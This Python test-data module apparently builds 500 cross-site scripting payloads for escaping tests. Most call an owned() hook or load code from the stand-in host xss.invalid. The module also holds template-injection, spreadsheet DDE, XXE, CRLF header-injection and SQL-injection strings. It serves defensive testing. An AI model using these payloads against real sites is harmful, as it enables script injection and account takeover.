"""Five hundred texts that a browser would run as a script if any page, feed or export did not escape them.

Written for this project. Each calls ``owned()``, which the tests bind, opens a dialog, or asks a host that is not
there. They combine ways out of a context (text, attributes, raw text, comments, CDATA, JSON, XML) with ways to run.
"""

from collections.abc import Iterator
from itertools import product

_SCRIPT_PAYLOADS = (
    "<script>owned()</script>",
    "<ScRiPt >owned()</ScRiPt>",
    "<script/x>owned()</script\t>",
    "<script src=//xss.invalid/x.js></script>",
    "<script src='data:text/javascript,owned()'></script>",
    "<script type=module>owned()</script>",
    "<img src=x onerror=owned()>",
    "<img/src='x'/onerror='owned()'>",
    "<IMG SRC=x OnErRoR=owned&#40;&#41;>",
    "<img src=x\nonerror\n=\nowned()>",
    "<image src=x onerror=owned()>",
    "<svg onload=owned()>",
    "<svg/onload=owned()//",
    "<svg><script>owned()</script></svg>",
    "<svg><script xlink:href='data:text/javascript,owned()'/></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<svg><set onbegin=owned() attributename=x to=y>",
    "<svg><a xlink:href='javascript:owned()'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.owned()</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=owned() xmlns=http://www.w3.org/2000/svg></svg>#x'></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=owned()>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=owned()&gt;'>",
    "<math href='javascript:owned()'>x</math>",
    "<body onload=owned()>",
    "<body onpageshow=owned()>",
    "<input autofocus onfocus=owned()>",
    "<select autofocus onfocus=owned()></select>",
    "<textarea autofocus onfocus=owned()></textarea>",
    "<a autofocus href onfocus=owned()>x</a>",
    "<div tabindex=1 autofocus onfocus=owned()>x</div>",
    "<details open ontoggle=owned()><summary>x</summary></details>",
    "<video src=x onerror=owned()></video>",
    "<video><source onerror=owned()></video>",
    "<audio src=x onerror=owned()></audio>",
    "<object data=x onerror=owned()></object>",
    "<object data='data:text/html,<script>parent.owned()</script>'></object>",
    "<embed src='javascript:owned()'>",
    "<iframe src='javascript:parent.owned()'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.owned()&lt;/script&gt;'></iframe>",
    "<iframe onload=owned()></iframe>",
    "<iframe src=https://xss.invalid/frame></iframe>",
    "<marquee onstart=owned()>x</marquee>",
    "<style onload=owned()></style>",
    "<style>@import url(http://xss.invalid/x.css);</style>",
    "<link rel=stylesheet href=http://xss.invalid/x.css>",
    "<link rel=preload as=script href=http://xss.invalid/x.js>",
    "<meta http-equiv=refresh content='0;url=javascript:owned()'>",
    "<meta http-equiv=refresh content='0;url=http://xss.invalid/'>",
    "<base href=http://xss.invalid/>",
    "<div style='background:url(http://xss.invalid/x.png)'>x</div>",
    "<x style='animation:x' onanimationstart=owned()><style>@keyframes x{}</style>",
    "<x onpointerrawupdate=owned() style='position:fixed;inset:0'>x</x>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
    "<template><script>owned()</script></template><slot><img src=x onerror=owned()>",
    "<xmp><p title='</xmp><img src=x onerror=owned()>'>",
    "<dialog open onclose=owned()><form method=dialog><button autofocus>x</button></form></dialog>",
    "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>owned()</h:script>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>owned()</script>",
    "<script>alert(document.domain)</script>",
    "<img src=x onerror=alert(1)>",
)
"""Ways to run."""
_ESCAPE_PREFIXES = (
    *('"', "'", '">', "'>", "`>", '\\">', "\\'>"),
    *("</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</xmp>", "</option></select>", "</a></p>"),
    *("-->", "--!>", "]]>", "]]]]><![CDATA[>", "<![CDATA[", "<!--", "/>", "?>", "&quot;>", "&#34;&#62;", '\x00">'),
)
"""Ways out of where a text stands."""
_ATTRIBUTE_PAYLOADS = (
    *('" onmouseover="owned()" x="', "' autofocus onfocus='owned()' x='", '" autofocus tabindex=0 onfocus=owned() "'),
    *(
        "x onerror=owned() y",
        "` onclick=`owned()`",
        '"onfocus=owned() autofocus',
        '"style="background:url(//xss.invalid)',
    ),
    *(
        "javascript:owned()",
        "JaVaScRiPt:owned()",
        " javascript:owned()",
        "java\tscript:owned()",
        "java\nscript:owned()",
    ),
    *("\x01javascript:owned()", "javascript&colon;owned()", "jav&#x09;ascript:owned()", "javascript://%0aowned()"),
    *("data:text/html,<script>owned()</script>", "data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+"),
    *(
        "vbscript:owned()",
        "//xss.invalid/x.js",
        'https://xss.invalid/"onfocus=owned()//',
        "view-source:javascript:owned()",
    ),
    *(
        "blob:https://xss.invalid/1",
        "feed:javascript:owned()",
        'http://[::1]"onerror=owned()',
        "https:javascript:owned()",
    ),
    *("{{ 7*7 }}", "{{constructor.constructor('owned()')()}}", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    *("{% include 'x' %}", "{% raw %}<script>owned()</script>{% endraw %}", "{{ '<script>owned()</script>'|safe }}"),
    *("${owned()}", "#{owned()}", "<%= owned() %>", "*{owned()}", "[[${owned()}]]", "{{{owned()}}}", "@(owned())"),
    *(
        "};owned();//",
        '";owned();//',
        "';owned();//",
        "\\u0027;owned();//",
        "`;owned();//",
        '"});owned();({x:"',
        "]};owned()//",
    ),
    *('{"@type":"x","y":"</script><script>owned()</script>"}', "<!--<script>owned()//-->", "\\x3cscript\\x3eowned()"),
    *(
        "\\u003cscript\\u003eowned()\\u003c/script\\u003e",
        "\u2028owned()//",
        "\u2029owned()//",
        "%3Cscript%3Eowned()%3C/script%3E",
    ),
    *(
        "%253Cscript%253Eowned()%253C/script%253E",
        "&lt;script&gt;owned()&lt;/script&gt;",
        "&amp;lt;script&amp;gt;owned()",
    ),
    *(
        "&#60;script&#62;owned()&#60;/script&#62;",
        "&#x3c;img src=x onerror=owned()&#x3e;",
        "&ltscript&gtowned()&lt/script&gt",
    ),
    *(
        "＜script＞owned()＜/script＞",
        "<ſcript>owned()</ſcript>",
        "‹script›owned()‹/script›",
        "\u202e>tpircs<\u202c<script>owned()</script>",
    ),
    *("+ADw-script+AD4-owned()+ADw-/script+AD4-", "\x1b(J<script>owned()</script>", "\ufeff<script>owned()</script>"),
    *(
        "<\u200bscript>owned()</script>",
        "<scr\u00adipt>owned()</script>",
        "<s\u0300cript>owned()</script>",
        "\u0085<svg onload=owned()>",
    ),
    *("<?xml-stylesheet type='text/xsl' href='data:text/xml,x'?>", "<!DOCTYPE x [<!ENTITY y 'owned()'>]>&y;", "&xxe;"),
    *(
        "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='http://xss.invalid/'/>",
        "<?php owned() ?>",
        "<x:x/>",
    ),
    *(
        "</entry><script xmlns='http://www.w3.org/1999/xhtml'>owned()</script>",
        "</summary></entry></feed><img src=x onerror=owned()>",
    ),
    *(
        "</text></svg><script>owned()</script>",
        "</p></body></html><script>owned()</script>",
        "</node><script>owned()</script>",
    ),
    *(
        "expression(owned())",
        "}*{background:url(http://xss.invalid/)}",
        "</style><img src=x onerror=owned()>",
        "url(javascript:owned())",
    ),
    *(
        "<<script>owned();//<</script>",
        "<scr<script>ipt>owned()</scr</script>ipt>",
        "<img src=x:x onerror\x0c=owned()>",
        "<svg\x0conload=owned()>",
    ),
    *(
        "<a href=javas&#99;ript:owned()>x</a>",
        "<a href='&#1;javascript:owned()'>x</a>",
        "<form action=javascript:owned()><input type=submit autofocus>",
    ),
    *(
        "<button form=x formaction=javascript:owned()>x",
        "<isindex action=javascript:owned() type=submit>",
        "<area href=javascript:owned()>",
    ),
    *(
        '=HYPERLINK("javascript:owned()")',
        "=cmd|'/c calc'!A1",
        "\r\n\r\n<script>owned()</script>",
        "\r\nContent-Type: text/html\r\n\r\n<script>owned()</script>",
    ),
    *(
        "[x](javascript:owned())",
        '![x](x"onerror=owned())',
        "<javascript:owned()>",
        "' OR 1=1; --<script>owned()</script>",
    ),
)
"""Texts that need no way out, or are their own."""


def _iter_payloads() -> Iterator[str]:
    yield from _SCRIPT_PAYLOADS
    yield from _ATTRIBUTE_PAYLOADS
    # Each way out with some of the ways to run, so that 500 cover all of both.
    for at, (out, run) in enumerate(product(_ESCAPE_PREFIXES, _SCRIPT_PAYLOADS)):
        if at % 9 in (0, 4):
            yield out + run


PAYLOADS = tuple(dict.fromkeys(_iter_payloads()))[:500]
"""All of them."""
FEW = PAYLOADS[:: len(PAYLOADS) // 40][:40]
"""Forty from everywhere among them."""
